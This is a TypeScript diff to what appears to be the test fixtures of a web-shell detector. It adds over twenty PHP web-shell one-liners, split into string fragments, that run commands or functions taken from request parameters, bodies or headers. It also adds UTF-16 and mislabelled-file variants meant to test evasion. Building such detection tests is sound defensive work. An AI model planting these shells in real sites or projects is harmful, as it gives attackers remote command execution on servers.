@@ -4,6 +4,59 @@ import { EVAL, EXEC, glue, SYSTEM } from './pieces.ts'
 
 const phpShell = glue('<?p', 'hp @', EVAL, '($_PO', "ST['pass']); ?>")
 
+const plainShells: readonly [what: string, code: string][] = [
+  ['a PHP web shell of backticks alone', glue('<?=`$_GE', 'T[0]`?>')],
+  ['a PHP web shell through include', glue('<?p', 'hp include($_GE', "T['f']);")],
+  ['a PHP web shell through require', glue('<?p', 'hp @require_once $_REQ', "UEST['f'];")],
+  ['a PHP web shell through the body of a request', glue('<?p', "hp include 'php://in", "put';")],
+  ['a PHP web shell through popen', glue('<?p', 'hp echo fread(po', 'pen($_GE', "T['c'], 'r'), 4096);")],
+  [
+    'a PHP web shell through pcntl',
+    glue('<?p', 'hp pcntl_', EXEC, '($_REQ', "UEST['p'], $_REQ", "UEST['a']);"),
+  ],
+  [
+    'a PHP web shell through pcntl and a shell',
+    glue('<?p', 'hp pcntl_', EXEC, "('/bin/sh', ['-c', $_REQ", "UEST['c']]);"),
+  ],
+  ['a PHP web shell through array_map', glue('<?p', 'hp array_', 'map($_GE', "T['f'], [$_GE", "T['a']]);")],
+  ['a PHP web shell through call_user_func', glue('<?p', 'hp call_user_', 'func($_PO', "ST['f'], 'id');")],
+  [
+    'a PHP web shell through call_user_func_array',
+    glue('<?p', 'hp call_user_', "func_array('", SYSTEM, "', [$_PO", "ST['a']]);"),
+  ],
+  ['a PHP web shell through usort', glue('<?p', "hp $a = ['id', 'id']; usort($a, $_GE", "T['f']);")],
+  ['a PHP web shell through spread arguments', glue('<?p', 'hp usort(...$_GE', 'T);')],
+  ['a PHP web shell through array_filter', glue('<?p', 'hp array_filter([$_GE', "T['a']], $_GE", "T['f']);")],
+  [
+    'a PHP web shell at shutdown',
+    glue('<?p', 'hp register_shutdown_', 'function($_GE', "T['f'], $_GE", "T['a']);"),
+  ],
+  [
+    'a PHP web shell through create_function',
+    glue('<?p', 'hp $f = create_', "function('', $_PO", "ST['c']); $f();"),
+  ],
+  [
+    'a PHP web shell through the old modifier e',
+    glue('<?p', 'hp preg_', "replace('#.*#e', $_PO", "ST['x'], '');"),
+  ],
+  [
+    'a PHP web shell through a function that a request names',
+    glue('<?p', 'hp $_GE', "T['a']($_GE", "T['b']);"),
+  ],
+  ['a PHP web shell through a hidden variable', glue('<?p', "hp ${'_G'.'E", "T'}[0](${'_G'.'E", "T'}[1]);")],
+  ['a PHP web shell through a quoted name', glue('<?p', "hp ('sys'.'tem')($_GE", "T['c']);")],
+  [
+    'a PHP web shell through reflection',
+    glue('<?p', 'hp (new ReflectionFunction($_GE', "T['f']))->invoke($_GE", "T['a']);"),
+  ],
+  [
+    'a PHP web shell through proc_open',
+    glue('<?p', 'hp $p = proc_', 'open($_REQ', "UEST['c'], $spec, $pipes);"),
+  ],
+  ['a PHP web shell that prints', glue('<?p', 'hp print_r(shell_', EXEC, '($_GE', "T['c']));")],
+  ['a PHP web shell through a header', glue('<?p', 'hp ', SYSTEM, '(getall', "headers()['X']);")],
+]
+
 export const webShellCases = cases([
   ['x.php', 'a one-line PHP web shell', phpShell],
   [
@@ -125,6 +178,16 @@ export const webShellCases = cases([
       '($q->par',
       'am("cmd"));\n',
     ),
+  ],
+  ...plainShells.map(([what, code]): [string, string, string] => ['plain.php', what, code]),
+  ...plainShells.flatMap(([what, code]): [string, string, () => Buffer][] => [
+    ['wide.php', `${what}, in UTF-16LE without a mark`, () => Buffer.from(code, 'utf16le')],
+    ['wide.php', `${what}, in UTF-16BE without a mark`, () => Buffer.from(code, 'utf16le').swap16()],
+  ]),
+  [
+    'wide.txt',
+    'a PHP web shell in UTF-16 without a mark, called a text',
+    () => Buffer.from(phpShell, 'utf16le'),
   ],
   [
     'site.zip',
